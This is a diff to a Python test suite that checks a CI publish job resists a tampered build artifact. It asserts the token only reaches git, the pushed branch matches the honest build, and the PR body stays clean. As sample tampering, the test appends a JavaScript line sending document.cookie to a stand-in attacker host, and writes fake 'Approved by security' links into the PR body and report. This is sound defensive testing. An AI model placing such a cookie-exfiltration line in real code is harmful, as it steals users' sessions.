@@ -13,7 +13,7 @@ from pathlib import Path
 from . import workflow_canary
 from .canary import executable
 from .gitrepo import BOT, git, with_remote
-from .test_publish import _append, _tampered
+from .publish_support import EVIL, append, holds, tampered
 from .workflow_run import READ_TOKEN, WRITE_TOKEN, Runner
 
 BRANCH = "codemod/app-state"
@@ -42,6 +42,8 @@ def test_the_example_workflow_with_canaries_shows_the_write_token_to_nothing(tmp
     assert found["alive"] == []
     # the token reached git's network calls alone, in the publish job
     assert {sub for sub, mark in found["git_calls"] if mark == "token"} <= {"ls-remote", "fetch", "push"}
+    # the publishing process (publish, open-pr) started git and gh, nothing else
+    assert set(found["publishing_programs"]) == {"git", "gh"}, found["publishing_programs"]
     # the publish job pushed the build's branch and opened the PR
     assert found["remote_branch"] == found["manifest"]["tip"]
     assert [(p["number"], p["state"]) for p in found["pulls"]] == [(1, "open")]
@@ -58,24 +60,34 @@ def _runner(tmp: Path, remote: Path, **build_inputs: str) -> Runner:
                   with_inputs={"mesh-codemod": {"author": BOT, **build_inputs}, "mesh-codemod/publish": {"author": BOT}})
 
 
-def test_a_compromised_build_jobs_branch_is_refused_by_the_publish_job(tmp_path: Path) -> None:
+def test_a_compromised_build_jobs_branch_never_reaches_the_remote(tmp_path: Path) -> None:
     """The build job runs the repository's code, so its artifact is not
     trusted: a line added to the tool's file, under the tool's name and
-    trailers, with the bundle and manifest made to match, is refused."""
+    trailers, with the bundle and manifest made to match, and a PR body of
+    its own: the publish job pushes its own series, opens the PR with its
+    own body, and says in the job summary that the build's layout was not
+    used."""
     remote, work = with_remote(tmp_path)
     runner = _runner(tmp_path, remote, **{"require-checks": "false"})
     jobs = runner.workflow["jobs"]
     build = runner.run_job("build", jobs["build"])
     assert build.ok
     artifact = runner.artifacts / "mesh-codemod-artifact"
+    honest = json.loads((artifact / "manifest.json").read_text())["tip"]
     built = tmp_path / "job-build" / "workspace"
-    _tampered(built, artifact, _append("apps/mesh/src/mcp-apps/app-state.ts",
-                                      'fetch("https://attacker.example/" + document.cookie);\n'))
+    tampered(built, artifact, append("apps/mesh/src/mcp-apps/app-state.ts",
+                                     f'fetch("https://{EVIL}/" + document.cookie);\n'))
+    (artifact / "body.md").write_text(f"[Approved by security](https://{EVIL})\n")
+    (artifact / "report.json").write_text(json.dumps({"left_alone": [{"path": "x", "why": f"[x](https://{EVIL})"}]}))
     publish = runner.run_job("publish", jobs["publish"])
-    check = next(s for s in publish.steps if s.name == "Check the artifact")
-    assert check.exit == 3 and "by more than layout" in check.stderr
-    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
-    assert json.loads((tmp_path / "github.json").read_text())["pulls"] == []
+    assert publish.ok, [(s.name, s.exit, s.stderr[-500:]) for s in publish.steps]
+    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == honest
+    assert not holds(remote, EVIL.encode())
+    pulls = json.loads((tmp_path / "github.json").read_text())["pulls"]
+    assert [p["number"] for p in pulls] == [1] and EVIL not in pulls[0]["body"] + pulls[0]["title"]
+    summary = (publish.temp / "_github_step_summary").read_text()
+    outputs = [p.read_text() for p in publish.temp.glob("_output_*")]
+    assert "was not used" in summary and EVIL not in summary + "".join(outputs), summary
 
 
 def test_the_build_job_requires_the_checks_unless_told_not_to(tmp_path: Path) -> None:
